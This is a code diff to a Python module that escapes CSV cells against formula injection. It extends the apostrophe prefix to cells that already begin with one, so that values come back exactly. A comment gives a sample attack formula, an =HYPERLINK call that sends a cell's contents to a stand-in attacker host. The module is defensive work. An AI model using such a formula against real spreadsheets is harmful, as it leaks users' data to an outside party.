@@ -8,7 +8,9 @@ reviewer's note such as `=HYPERLINK("https://evil.example/?"&A1)` would run on t
 reviewer's machine. Every CSV the project writes goes through this module, which follows
 OWASP's CSV injection guidance (and ASVS 1.2.10, which adds NUL): such a cell gets a
 leading `'`, which spreadsheets show as text; fields with a comma, a quote or a line break
-are quoted and quotes doubled (RFC 4180, 2.6 and 2.7).
+are quoted and quotes doubled (RFC 4180, 2.6 and 2.7). A cell that starts with `'` itself
+gets one more, so a program reading the CSV gets every value back exactly by removing one
+leading `'` wherever there is one.
 
 Columns are the fields of the JSON rows, in the same order, under one header row: a null
 is an empty cell, a boolean `true`/`false`, a number as JSON writes it, a list or an object
@@ -29,14 +31,16 @@ from typing import Any
 CSV_MEDIA_TYPE = "text/csv; charset=utf-8"
 # What a spreadsheet may read as the start of a formula (OWASP; NUL from ASVS 1.2.10).
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\0")
+# Prefixed too: then a leading `'` always means one was added, and removing it is exact.
+PREFIXED = (*FORMULA_STARTS, "'")
 # A field holding one of these is quoted (RFC 4180, 2.6).
 _SPECIAL = re.compile('[,"\r\n]')
 
 
 def neutralised(text: str) -> str:
     """`text`, with a leading `'` when it starts like a formula (so a spreadsheet shows it
-    as text); any other text as it is."""
-    return "'" + text if text.startswith(FORMULA_STARTS) else text
+    as text) or with a `'`; any other text as it is."""
+    return "'" + text if text.startswith(PREFIXED) else text
 
 
 def cell(value: Any) -> str:
